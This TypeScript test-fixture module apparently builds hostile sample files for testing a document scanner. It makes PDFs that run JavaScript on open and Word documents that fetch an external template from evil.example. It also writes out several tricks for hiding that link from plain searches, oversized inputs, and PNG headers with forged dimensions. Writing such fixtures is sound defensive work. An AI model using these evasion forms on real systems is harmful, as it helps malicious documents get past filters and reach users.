import { strToU8, zipSync, zlibSync } from "fflate";
import { PIXEL_PNG } from "../api/pixel-png";

type Bytes = Uint8Array<ArrayBuffer>;

const encodeLatin = (text: string): Bytes => Uint8Array.from(text, (letter) => letter.charCodeAt(0));
const together = (...parts: readonly Uint8Array[]): Bytes =>
	Uint8Array.from(parts.flatMap((part) => [...part]));

function wideBytes(text: string): Bytes {
	const bytes = new Uint8Array(text.length * 2);
	const view = new DataView(bytes.buffer);
	for (let at = 0; at < text.length; at++) view.setUint16(at * 2, text.charCodeAt(at), true);
	return bytes;
}

/** A PDF of one page with these objects, numbered from 4. */
export function pdfWith(...objects: readonly (string | Uint8Array)[]): Bytes {
	const head =
		"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n";
	const parts = objects.flatMap((object, at) => [
		encodeLatin(`${at + 4} 0 obj`),
		typeof object === "string" ? encodeLatin(object) : object,
		encodeLatin("endobj\n"),
	]);
	return together(encodeLatin(head), ...parts, encodeLatin("trailer<</Root 1 0 R>>\n%%EOF"));
}

/** A compressed stream with this dictionary. */
export function pdfStream(dictionary: string, content: string): Uint8Array {
	const packed = zlibSync(encodeLatin(content));
	return together(
		encodeLatin(`<<${dictionary}/Filter/FlateDecode/Length ${packed.length}>>stream\n`),
		packed,
		encodeLatin("\nendstream "),
	);
}

export const SCRIPT_ACTION = "<</S/JavaScript/JS(app.alert(1))>>";

const contentTypes = (more: string) =>
	`<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${more}</Types>`;

/** A document of Word with further parts; `types` is added to its list of types. */
export const docxWith = (parts: Record<string, string | Uint8Array> = {}, types = ""): Bytes =>
	new Uint8Array(
		zipSync(
			Object.fromEntries(
				Object.entries({
					"[Content_Types].xml": contentTypes(types),
					"word/document.xml": "<w:document/>",
					...parts,
				}).map(([name, content]) => [name, typeof content === "string" ? strToU8(content) : content]),
			),
		),
	);

const TEMPLATE_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";

/** The part with the links of a document, with this content. */
export const linksOf = (content: string | Uint8Array) => ({ "word/_rels/settings.xml.rels": content });

/** A link to a template that is fetched when the document is opened. */
export const linkToTemplate = (target: string) =>
	linksOf(
		`<Relationships><Relationship Id="r1" Type="${TEMPLATE_TYPE}" Target="${target}" TargetMode="External"/></Relationships>`,
	);

/** The same link in forms that a plain search does not find. */
export const DISGUISED_LINKS: readonly (readonly [form: string, links: string | Uint8Array])[] = [
	[
		"behind a value with a bracket",
		`<Relationship Target="http://evil.example/a.dotm?>" Type="${TEMPLATE_TYPE}" TargetMode="External"/>`,
	],
	[
		"in an element with a prefix",
		`<r:Relationship Type="${TEMPLATE_TYPE}" Target="http://evil.example/a.dotm" TargetMode="External"/>`,
	],
	[
		"with letters as references",
		`<Relationship Type="${TEMPLATE_TYPE.replace("T", "&#84;")}" Target="http://evil.example/a" TargetMode="&#69;xternal"/>`,
	],
	[
		"behind a value that looks like an attribute",
		`<Relationship Id=' TargetMode="Internal" Target="c:" ' Type="${TEMPLATE_TYPE}" Target="http://evil.example/a" TargetMode="External"/>`,
	],
];

/** Links in forms that programs read differently. */
export const UNCLEAR_LINKS: readonly (readonly [form: string, links: string | Uint8Array])[] = [
	["in UTF-16", wideBytes(`\ufeff<Relationship Type="${TEMPLATE_TYPE}" TargetMode="External"/>`)],
	["in UTF-16 without a mark", wideBytes(`<Relationship Type="${TEMPLATE_TYPE}" TargetMode="External"/>`)],
	["in UTF-7", '<?xml version="1.0" encoding="utf-7"?>+ADw-Relationship/+AD4-'],
	["with an entity of its own", '<!DOCTYPE r [<!ENTITY e "External">]><Relationship TargetMode="&e;"/>'],
	["with a long reference", '<Relationship TargetMode="&#x000000045;xternal"/>'],
	["with an attribute without a value", `<Relationship TargetMode Type="${TEMPLATE_TYPE}"/>`],
	["with 2 MB of elements without an end", "<Relationship ".repeat(149_000)],
	["with an element of 2 MB", `${"<Relationship ".repeat(149_000)}>`],
	["with an attribute of 2 MB", `<Relationship ${"a".repeat(2_000_000)}>`],
];

/** A picture of one pixel whose header claims these. */
export function pngOfSize(width: number, height: number): Bytes {
	const bytes = PIXEL_PNG.slice();
	const view = new DataView(bytes.buffer);
	view.setUint32(16, width);
	view.setUint32(20, height);
	return bytes;
}
